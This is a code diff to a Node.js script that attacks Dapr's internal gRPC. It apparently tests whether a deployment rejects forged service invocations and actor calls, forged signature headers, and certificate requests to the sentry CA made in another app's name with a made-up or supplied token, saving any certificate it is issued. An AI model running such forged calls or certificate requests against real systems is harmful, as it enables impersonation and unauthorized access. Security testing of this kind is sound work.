@@ -1,8 +1,10 @@
-// Attacks Dapr's internal gRPC without a certificate of its sentry: `node internal-grpc.mjs <attack>...`. An attack is
-// {"name", "host", "port", "call": "local" | "actor" | "certificate", "tls"?: {"key", "cert"} | {}}. Prints
-// {"<name>": <outcome>}: `answered <code>` with the gRPC code (0 is success), or the reason why there was no answer.
+// Attacks Dapr's internal gRPC: `node internal-grpc.mjs <attack>...`, one after the other. An attack is
+// {"name", "host", "port", "call": "local" | "actor" | "certificate", "tls"?: {"key", "cert"} | {}}. A call may name its
+// "method", "body" and "signature"; a request for a certificate its "id", "namespace" and "token" (files, like "csr" and
+// "save"). Prints {"<name>": <outcome>}: `answered <code>` with the gRPC code, followed by the application's status if the
+// code is 0 (success), or the reason why there was no answer.
 import { connect } from 'node:http2';
-import { readFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 
 const TIMEOUT_MS = 5_000;
 
@@ -14,39 +16,60 @@ const bytes = (number, value) => {
 const number = (field, value) => Buffer.from([field << 3, ...varint(value)]);
 
 const notification = JSON.stringify({ id: 'forged', title: 'Forged' });
-const invocation = (method, verb) =>
-  bytes(
-    3,
-    Buffer.concat([
-      bytes(1, method),
-      bytes(2, bytes(2, notification)),
-      bytes(3, 'application/json'),
-      bytes(4, number(1, verb)),
-    ]),
-  );
+/** Reads the content of a message's first field, of type bytes. */
+const firstOf = (message) => {
+  let size = 0;
+  let at = 1;
+  for (let shift = 0; ; shift += 7) {
+    const byte = message[at++] ?? 0;
+    size |= (byte & 127) << shift;
+    if (byte < 128) return message.subarray(at, at + size);
+  }
+};
+/** Reads the application's status, the first field of the first field of an answer. */
+const statusOf = (answer) => {
+  const status = firstOf(answer);
+  return status[0] === 8 ? ((status[1] ?? 0) & 127) | ((status[2] ?? 0) << 7) : 0;
+};
+const invocation = (method, verb, body = notification, signature = '') => {
+  const header = bytes(2, Buffer.concat([bytes(1, 'tocsin-signature'), bytes(2, bytes(1, signature))]));
+  const message = Buffer.concat([
+    bytes(1, method),
+    bytes(2, bytes(2, body)),
+    bytes(3, 'application/json'),
+    bytes(4, number(1, verb)),
+  ]);
+  return Buffer.concat([number(1, 1), ...(signature ? [header] : []), bytes(3, message)]);
+};
 const [POST, PUT] = [3, 4];
 const service = 'dapr.proto.internals.v1.ServiceInvocation';
 const CALLS = {
-  local: () => [`/${service}/CallLocal`, Buffer.concat([number(1, 1), invocation('notifications', POST)])],
-  actor: () => [
+  local: ({ method = 'notifications', body, signature }) => [
+    `/${service}/CallLocal`,
+    invocation(method, POST, body, signature),
+  ],
+  actor: ({ body, signature }) => [
     `/${service}/CallActor`,
     Buffer.concat([
-      number(1, 1),
-      invocation('take', PUT),
+      invocation('take', PUT, body, signature),
       bytes(4, Buffer.concat([bytes(1, 'Feed'), bytes(2, 'all')])),
     ]),
   ],
-  // Asks sentry for a certificate in the bff's name, with a made-up token.
-  certificate: ({ csr }) => [
+  // Asks sentry for a certificate: by default in the bff's name, with a made-up token. Compose and Kubernetes have
+  // different validators.
+  certificate: ({ csr, id = 'bff', namespace = 'default', token }) => [
     '/dapr.proto.sentry.v1.CA/SignCertificate',
     Buffer.concat([
-      ...[bytes(1, 'bff'), bytes(2, 'made.up.token'), bytes(4, 'default')],
-      ...[bytes(5, readFileSync(csr)), number(6, 3)],
+      bytes(1, id),
+      bytes(2, token ? readFileSync(token) : 'made.up.token'),
+      bytes(4, namespace),
+      bytes(5, readFileSync(csr)),
+      number(6, token ? 2 : 3),
     ]),
   ],
 };
 
-const attack = ({ host, port, call, tls, ...rest }) =>
+const attack = ({ host, port, call, tls, save, ...rest }) =>
   new Promise((resolve) => {
     const [path, message] = CALLS[call](rest);
     const own = tls && { rejectUnauthorized: false, ...readAll(tls) };
@@ -60,14 +83,22 @@ const attack = ({ host, port, call, tls, ...rest }) =>
     const stream = session.request({
       ...{ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' },
     });
-    const code = (headers) =>
-      headers['grpc-status'] !== undefined && end(`answered ${headers['grpc-status']}`);
+    const chunks = [];
+    stream.on('data', (chunk) => chunks.push(chunk));
+    const code = (headers) => {
+      const status = headers['grpc-status'];
+      if (status === undefined) return;
+      const answer = Buffer.concat(chunks).subarray(5);
+      if (status === '0' && save) writeFileSync(save, firstOf(answer));
+      end(
+        `answered ${status}${status === '0' && call !== 'certificate' ? `, status ${statusOf(answer)}` : ''}`,
+      );
+    };
     stream.on('error', () => undefined);
     // Wait for the session's error, which is more precise but arrives later.
     stream.once('close', () => setTimeout(end, 500, 'closed'));
     stream.on('response', code);
     stream.on('trailers', code);
-    stream.resume();
     const length = Buffer.alloc(5);
     length.writeUInt32BE(message.length, 1);
     stream.end(Buffer.concat([length, message]));
